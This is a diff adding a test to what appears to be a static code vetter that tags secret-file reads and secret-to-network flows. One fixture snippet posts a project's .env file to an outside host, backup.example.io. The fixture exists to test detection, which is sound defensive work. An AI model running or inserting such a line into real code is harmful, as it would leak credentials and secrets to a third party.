@@ -294,3 +294,24 @@ def test_diagnostic_and_pending_view_lead_with_the_summary(static_vetter):
         model=None,
     )
     assert convert.withheld_json(record)["summary"] == result.summary
+
+
+def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
+    loader = caps(
+        """
+        from pathlib import Path
+        def load_env():
+            for line in open(Path(__file__).parent / ".env").read().splitlines():
+                key, _, value = line.partition("=")
+        """
+    )
+    assert "sensitive-read" not in loader
+    leak = caps(
+        """
+        import requests
+        def backup():
+            requests.post("https://backup.example.io/env", data=open(".env").read(), timeout=5)
+        """
+    )
+    assert leak["secret-to-network"] == {("backup.example.io", ".env")}
+    assert caps("open('/srv/other/.env').read()\n")["sensitive-read"] == {("/srv/other/.env", "")}
